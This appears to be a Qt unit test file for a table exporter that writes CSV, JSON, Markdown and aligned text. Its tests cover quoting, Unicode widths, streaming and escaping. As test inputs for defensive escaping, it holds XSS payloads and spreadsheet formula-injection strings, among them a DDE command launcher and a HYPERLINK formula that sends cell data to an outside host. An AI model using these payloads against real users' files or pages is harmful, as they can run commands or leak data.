#include "models/core/formatting/tablewriter.h"
#include "models/itemmodels/recordtablemodel.h"

#include <QBuffer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QStandardItemModel>
#include <QTest>

namespace {

// The aligned text as it was laid out with a QString per cell before it was streamed: the oracle the
// streamed table must match byte for byte.
QByteArray referenceText(const QAbstractItemModel &model)
{
    const int columns = model.columnCount();
    QList<QStringList> grid;
    QStringList titles;
    for (int c = 0; c < columns; ++c)
        titles << model.headerData(c, Qt::Horizontal).toString();
    grid << titles;
    for (int r = 0; r < model.rowCount(); ++r) {
        QStringList line;
        for (int c = 0; c < columns; ++c)
            line << model.index(r, c).data().toString().replace(QLatin1Char('\n'), QLatin1Char(' '));
        grid << line;
    }
    QList<qsizetype> widths(columns, 0);
    for (const QStringList &line : std::as_const(grid)) {
        for (int c = 0; c < columns; ++c)
            widths[c] = std::max(widths[c], line.at(c).size());
    }
    QString out;
    for (const QStringList &line : std::as_const(grid)) {
        QString text;
        for (int c = 0; c < columns; ++c) {
            const bool right = model.rowCount() > 0
                               && (model.index(0, c).data(Qt::TextAlignmentRole).value<Qt::Alignment>() & Qt::AlignRight);
            text += (c ? QLatin1String("  ") : QLatin1String(""))
                    + (right ? line.at(c).rightJustified(widths[c]) : line.at(c).leftJustified(widths[c]));
        }
        while (text.endsWith(QLatin1Char(' ')))
            text.chop(1);
        out += text + QLatin1Char('\n');
    }
    return out.toUtf8();
}

// Markdown as it was built in one QString before it was streamed.
QByteArray referenceMarkdown(const QAbstractItemModel &model)
{
    const auto escaped = [](QString text) {
        return text.replace(QLatin1Char('&'), QLatin1String("&amp;"))
            .replace(QLatin1Char('<'), QLatin1String("&lt;"))
            .replace(QLatin1Char('>'), QLatin1String("&gt;"))
            .replace(QLatin1Char('|'), QLatin1String("\\|"))
            .replace(QLatin1Char('\n'), QLatin1Char(' '));
    };
    QStringList fields;
    QStringList rule;
    for (int c = 0; c < model.columnCount(); ++c) {
        fields << escaped(model.headerData(c, Qt::Horizontal).toString());
        const bool right = model.rowCount() > 0
                           && (model.index(0, c).data(Qt::TextAlignmentRole).value<Qt::Alignment>() & Qt::AlignRight);
        rule << (right ? QStringLiteral("---:") : QStringLiteral("---"));
    }
    QString out = QLatin1String("| ") + fields.join(QLatin1String(" | ")) + QLatin1String(" |\n");
    out += QLatin1String("| ") + rule.join(QLatin1String(" | ")) + QLatin1String(" |\n");
    for (int r = 0; r < model.rowCount(); ++r) {
        fields.clear();
        for (int c = 0; c < model.columnCount(); ++c)
            fields << escaped(model.index(r, c).data().toString());
        out += QLatin1String("| ") + fields.join(QLatin1String(" | ")) + QLatin1String(" |\n");
    }
    return out.toUtf8();
}

// Rows of awkward display text and raw values, repeated past several of the writer's 64 KiB pieces: wide and
// non-ASCII cells (a character past U+FFFF counts two, as QString counts), line breaks, pipes, blanks at a
// cell's end and an empty last column (trimmed), a numeric column whose first row is empty (so it aligns
// left, as the first row decides), and numbers of every JSON kind.
void fillAwkward(QStandardItemModel &model, int rows)
{
    const QStringList titles{QStringLiteral("Name"), QStringLiteral("Größe ≤"), QStringLiteral("Note"),
                             QStringLiteral("Count"), QStringLiteral("Last")};
    model.setColumnCount(int(titles.size()));
    model.setRowCount(rows);
    for (int c = 0; c < titles.size(); ++c) {
        model.setHeaderData(c, Qt::Horizontal, titles.at(c));
        model.setHeaderData(c, Qt::Horizontal, titles.at(c).toLower(), RecordTableModel::ColumnKeyRole);
    }
    const QStringList names{QStringLiteral("模型 🚀 %1"), QStringLiteral("plain %1"), QStringLiteral("pipe | %1"),
                            QStringLiteral("trailing %1   "), QStringLiteral("two\nlines %1"),
                            QStringLiteral("<b>R&D</b> %1")};
    for (int r = 0; r < rows; ++r) {
        const QString name = r % 6 == 5 ? QString() : names.at(r % names.size()).arg(r);
        const double size = r % 7 == 0 ? -0.0 : r * 1e9 / 3;
        const QVariant count = r == 0 ? QVariant() : QVariant(qint64(r) * 1000);
        const QList<std::pair<QVariant, QString>> cells{
            {name, name.repeated(r % 3)},
            {size, QStringLiteral("%1 GB").arg(size / 1e9, 0, 'f', 1)},
            {r % 5 ? QVariant(QStringLiteral("note\n%1").arg(r)) : QVariant(), r % 5 ? QStringLiteral("note\n%1").arg(r) : QString()},
            {count, count.toString()},
            {QVariant(r % 2 == 0), r % 4 ? QString() : QStringLiteral("x  ")}};
        for (int c = 0; c < cells.size(); ++c) {
            const QModelIndex index = model.index(r, c);
            model.setData(index, cells.at(c).second, Qt::DisplayRole);
            model.setData(index, cells.at(c).first, RecordTableModel::RawValueRole);
            const QMetaType type = cells.at(c).first.metaType();
            const bool numeric = type == QMetaType::fromType<double>() || type == QMetaType::fromType<qint64>();
            model.setData(index, QVariant::fromValue(numeric ? Qt::AlignRight : Qt::AlignLeft), Qt::TextAlignmentRole);
        }
    }
}

// A device that takes the first bytes written to it and refuses the rest.
class FullDevice : public QIODevice
{
public:
    FullDevice() { open(QIODevice::WriteOnly); }

protected:
    qint64 readData(char *, qint64) override { return -1; }
    qint64 writeData(const char *, qint64 size) override { return m_room-- > 0 ? size : -1; }

private:
    int m_room = 1;
};

// A two-row table with the awkward cases: separators, quotes and line breaks in text, a missing value.
class SampleModel : public RecordTableModel
{
public:
    int rowCount(const QModelIndex &parent = QModelIndex()) const override { return parent.isValid() ? 0 : 2; }
    int columnCount(const QModelIndex &parent = QModelIndex()) const override { return parent.isValid() ? 0 : 3; }

protected:
    QString columnKey(int column) const override { return QStringList{"name", "size", "note"}.at(column); }
    QString columnTitle(int column) const override { return QStringList{"Name", "Size", "Note"}.at(column); }
    QVariant rawValue(int row, int column) const override
    {
        if (column == 0)
            return row == 0 ? QStringLiteral("Plain") : QStringLiteral("Comma, \"quoted\"");
        if (column == 1)
            return row == 0 ? QVariant(0.1) : QVariant(qint64(685'000'000'000));
        return row == 0 ? QVariant() : QVariant(QStringLiteral("two\nlines | pipe"));
    }
    QString displayText(int row, int column) const override
    {
        return column == 1 ? (row == 0 ? QStringLiteral("0.1") : QStringLiteral("685B")) : rawValue(row, column).toString();
    }
    qint64 recordId(int row) const override { return row + 1; }
};

} // namespace

class TestTableWriter : public QObject
{
    Q_OBJECT

private slots:
    void csvQuotesAsRfc4180()
    {
        SampleModel model;
        const QByteArray csv = TableWriter::write(model, TableWriter::Format::Csv);
        QCOMPARE(csv, QByteArray("name,size,note\r\n"
                                 "Plain,0.1,\r\n"
                                 "\"Comma, \"\"quoted\"\"\",685000000000,\"two\nlines | pipe\"\r\n"));
    }

    // Every kind of cell the models hand out, and text the fast path must encode and quote exactly.
    void csvWritesEveryValueTypeAsUtf8()
    {
        QStandardItemModel model(1, 6);
        const QVariantList values{true, 7, qint64(-3), QStringLiteral("Größe 模型 🚀"),
                                  QStringLiteral("say \"hi\""), QStringLiteral("\"\"")};
        for (int c = 0; c < values.size(); ++c) {
            model.setHeaderData(c, Qt::Horizontal, QStringLiteral("k%1").arg(c), RecordTableModel::ColumnKeyRole);
            model.setData(model.index(0, c), values.at(c), RecordTableModel::RawValueRole);
        }
        QCOMPARE(TableWriter::write(model, TableWriter::Format::Csv),
                 QByteArray("k0,k1,k2,k3,k4,k5\r\n"
                            "true,7,-3,Größe 模型 🚀,\"say \"\"hi\"\"\",\"\"\"\"\"\"\r\n"));
    }

    // A table longer than the writer's 64 KiB pieces arrives whole and in order; a refusing device is told.
    void csvStreamsToDevice()
    {
        QStandardItemModel model(10000, 2);
        model.setHeaderData(0, Qt::Horizontal, QStringLiteral("name"), RecordTableModel::ColumnKeyRole);
        model.setHeaderData(1, Qt::Horizontal, QStringLiteral("n"), RecordTableModel::ColumnKeyRole);
        QByteArray expected = "name,n\r\n";
        for (int r = 0; r < model.rowCount(); ++r) {
            model.setData(model.index(r, 0), QStringLiteral("model \"%1\", ünï").arg(r), RecordTableModel::RawValueRole);
            model.setData(model.index(r, 1), qint64(r) * 1000, RecordTableModel::RawValueRole);
            expected += QStringLiteral("\"model \"\"%1\"\", ünï\",%2\r\n").arg(r).arg(qint64(r) * 1000).toUtf8();
        }
        QVERIFY(expected.size() > 4 * 64 * 1024);
        QBuffer device;
        QVERIFY(device.open(QIODevice::WriteOnly));
        QVERIFY(TableWriter::write(model, TableWriter::Format::Csv, &device));
        QCOMPARE(device.data(), expected);
        QCOMPARE(TableWriter::write(model, TableWriter::Format::Csv), expected);

        QBuffer readOnly;
        QVERIFY(readOnly.open(QIODevice::ReadOnly));
        QTest::ignoreMessage(QtWarningMsg, "QIODevice::write (QBuffer): ReadOnly device");
        QVERIFY(!TableWriter::write(SampleModel(), TableWriter::Format::Csv, &readOnly));
    }

    void jsonKeepsTypes()
    {
        SampleModel model;
        const QJsonDocument doc = QJsonDocument::fromJson(TableWriter::write(model, TableWriter::Format::Json));
        QVERIFY(doc.isArray());
        const QJsonArray rows = doc.array();
        QCOMPARE(rows.size(), 2);
        QVERIFY(rows.at(0)[QStringLiteral("size")].isDouble());
        QCOMPARE(rows.at(0)[QStringLiteral("size")].toDouble(), 0.1);
        QCOMPARE(rows.at(1)[QStringLiteral("size")].toInteger(), 685'000'000'000LL);
        QVERIFY(rows.at(0)[QStringLiteral("note")].isNull());
        QCOMPARE(rows.at(1)[QStringLiteral("name")].toString(), QStringLiteral("Comma, \"quoted\""));
    }

    void markdownEscapesPipesAndBreaks()
    {
        SampleModel model;
        const QString md = QString::fromUtf8(TableWriter::write(model, TableWriter::Format::Markdown));
        const QStringList lines = md.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 4);
        QCOMPARE(lines.at(0), QStringLiteral("| Name | Size | Note |"));
        QCOMPARE(lines.at(1), QStringLiteral("| --- | ---: | --- |"));
        QCOMPARE(lines.at(3), QStringLiteral("| Comma, \"quoted\" | 685B | two lines \\| pipe |"));
    }

    // Most Markdown renderers show HTML in a cell as HTML: it is written as text, and a pipe still splits
    // no cell.
    void markdownEscapesHtml()
    {
        QStandardItemModel model(1, 2);
        model.setHorizontalHeaderLabels({QStringLiteral("Model"), QStringLiteral("Vendor")});
        model.setData(model.index(0, 0), QStringLiteral("<script>alert(1)</script>Evil 8B"));
        model.setData(model.index(0, 1), QStringLiteral("<img src=x onerror=alert(2)> R&D | &amp;"));
        QCOMPARE(TableWriter::write(model, TableWriter::Format::Markdown),
                 QByteArray("| Model | Vendor |\n"
                            "| --- | --- |\n"
                            "| &lt;script&gt;alert(1)&lt;/script&gt;Evil 8B "
                            "| &lt;img src=x onerror=alert(2)&gt; R&amp;D \\| &amp;amp; |\n"));
    }

    // OWASP's list of what starts a formula, each guarded by a quote in a text cell; text that merely holds
    // one, and numbers (negative ones too), are written as they are.
    void csvGuardsFormulas_data()
    {
        QTest::addColumn<QVariant>("value");
        QTest::addColumn<QByteArray>("written");
        QTest::addRow("equals") << QVariant(QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"))
                                << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
        QTest::addRow("plus") << QVariant(QStringLiteral("+cmd|'/c calc'!A1")) << QByteArray("'+cmd|'/c calc'!A1");
        QTest::addRow("minus") << QVariant(QStringLiteral("-2+3")) << QByteArray("'-2+3");
        QTest::addRow("at") << QVariant(QStringLiteral("@SUM(A1:A2)")) << QByteArray("'@SUM(A1:A2)");
        QTest::addRow("tab") << QVariant(QStringLiteral("\t=1+1")) << QByteArray("'\t=1+1");
        QTest::addRow("carriage return") << QVariant(QStringLiteral("\r=1+1")) << QByteArray("\"'\r=1+1\"");
        // A quote before a formula start gets one more, so the importer's removing one gives it back.
        QTest::addRow("quoted formula") << QVariant(QStringLiteral("'=1+1")) << QByteArray("''=1+1");
        QTest::addRow("quotes") << QVariant(QStringLiteral("''@x")) << QByteArray("'''@x");
        QTest::addRow("quote of text") << QVariant(QStringLiteral("'quoted'")) << QByteArray("'quoted'");
        QTest::addRow("inside") << QVariant(QStringLiteral("a=b+c-d@e")) << QByteArray("a=b+c-d@e");
        QTest::addRow("space first") << QVariant(QStringLiteral(" =1")) << QByteArray(" =1");
        QTest::addRow("bidi override") << QVariant(QStringLiteral("\u202E=1")) << QByteArray("\u202E=1");
        QTest::addRow("negative integer") << QVariant(qint64(-3)) << QByteArray("-3");
        QTest::addRow("negative double") << QVariant(-0.5) << QByteArray("-0.5");
        QTest::addRow("negative zero") << QVariant(-0.0) << QByteArray("0"); // as JSON writes it (issue 21)
        QTest::addRow("empty") << QVariant(QString()) << QByteArray();
    }

    void csvGuardsFormulas()
    {
        QFETCH(QVariant, value);
        QFETCH(QByteArray, written);
        QStandardItemModel model(1, 1);
        model.setHeaderData(0, Qt::Horizontal, QStringLiteral("name"), RecordTableModel::ColumnKeyRole);
        model.setData(model.index(0, 0), value, RecordTableModel::RawValueRole);
        QCOMPARE(TableWriter::write(model, TableWriter::Format::Csv), "name\r\n" + written + "\r\n");
    }

    // What the importer takes off each CSV field: exactly the guard the writer added, so every text reads
    // back as it was, and a field no writer guarded is left alone.
    void formulaGuardRoundTrips_data()
    {
        QTest::addColumn<QString>("text");
        for (const char *text : {"=1+1", "+1", "-1", "@x", "\t=x", "\r=x", "'=x", "''-x", "'", "''", "'x", "x'=",
                                 "", "plain", "-", "=", "'\t"})
            QTest::addRow("%s", text) << QString::fromUtf8(text);
    }

    void formulaGuardRoundTrips()
    {
        QFETCH(QString, text);
        const bool guarded = TableWriter::needsFormulaGuard(text);
        const QString written = guarded ? QLatin1Char('\'') + text : text;
        QCOMPARE(TableWriter::removeFormulaGuard(written), text);
        if (!written.isEmpty())
            QVERIFY(!QStringLiteral("=+-@\t\r").contains(written.at(0)));
    }

    void textAlignsColumns()
    {
        SampleModel model;
        const QStringList lines =
            QString::fromUtf8(TableWriter::write(model, TableWriter::Format::Text)).split(QLatin1Char('\n'));
        // Widths 15, 4 and 16; numbers right-aligned; trailing blanks dropped.
        QCOMPARE(lines.at(0), QStringLiteral("Name             Size  Note"));
        QCOMPARE(lines.at(1), QStringLiteral("Plain             0.1"));
        QCOMPARE(lines.at(2), QStringLiteral("Comma, \"quoted\"  685B  two lines | pipe"));
    }

    // Streamed in pieces, the people's formats are byte for byte what they were when built in one string.
    void textAndMarkdownMatchTheirLayoutRules()
    {
        for (const int rows : {0, 1, 7, 6000}) {
            QStandardItemModel model;
            fillAwkward(model, rows);
            const QByteArray text = TableWriter::write(model, TableWriter::Format::Text);
            if (rows == 6000)
                QVERIFY(text.size() > 4 * 64 * 1024);
            QCOMPARE(text, referenceText(model));
            QCOMPARE(TableWriter::write(model, TableWriter::Format::Markdown), referenceMarkdown(model));
        }
        const QStandardItemModel noColumns(3, 0);
        QCOMPARE(TableWriter::write(noColumns, TableWriter::Format::Text), referenceText(noColumns));
        QCOMPARE(TableWriter::write(noColumns, TableWriter::Format::Markdown), referenceMarkdown(noColumns));
    }

    void textCountsWidthInUtf16Units()
    {
        QStandardItemModel model(2, 2);
        model.setHorizontalHeaderLabels({QStringLiteral("A"), QStringLiteral("B")});
        model.setData(model.index(0, 0), QStringLiteral("🚀é"));
        model.setData(model.index(1, 0), QStringLiteral("abcd"));
        model.setData(model.index(0, 1), QStringLiteral("x"));
        model.setData(model.index(1, 1), QStringLiteral("y"));
        QCOMPARE(TableWriter::write(model, TableWriter::Format::Text),
                 QByteArray("A     B\n🚀é   x\nabcd  y\n"));
    }

    // The rows are written one by one, yet the document is the one QJsonDocument makes of them all.
    void jsonIsQtsDocument()
    {
        for (const int rows : {0, 1, 6000}) {
            QStandardItemModel model;
            fillAwkward(model, rows);
            QJsonArray array;
            for (int r = 0; r < rows; ++r) {
                QJsonObject object;
                for (int c = 0; c < model.columnCount(); ++c)
                    object.insert(model.headerData(c, Qt::Horizontal, RecordTableModel::ColumnKeyRole).toString(),
                                  QJsonValue::fromVariant(model.index(r, c).data(RecordTableModel::RawValueRole)));
                array.append(object);
            }
            QCOMPARE(TableWriter::write(model, TableWriter::Format::Json), QJsonDocument(array).toJson());
        }
    }

    void everyFormatReportsARefusedWrite()
    {
        QStandardItemModel model;
        fillAwkward(model, 6000);
        for (const auto format : {TableWriter::Format::Text, TableWriter::Format::Csv, TableWriter::Format::Json,
                                  TableWriter::Format::Markdown}) {
            FullDevice device;
            QVERIFY(!TableWriter::write(model, format, &device));
        }
    }

    void formatNames()
    {
        QCOMPARE(TableWriter::formatFromName(QStringLiteral("JSON")), TableWriter::Format::Json);
        QCOMPARE(TableWriter::formatFromName(QStringLiteral("table")), TableWriter::Format::Text);
        QCOMPARE(TableWriter::formatFromSuffix(QStringLiteral("/tmp/out.md")), TableWriter::Format::Markdown);
        QVERIFY(!TableWriter::formatFromName(QStringLiteral("xlsx")));
    }
};

QTEST_APPLESS_MAIN(TestTableWriter)
#include "tst_tablewriter.moc"
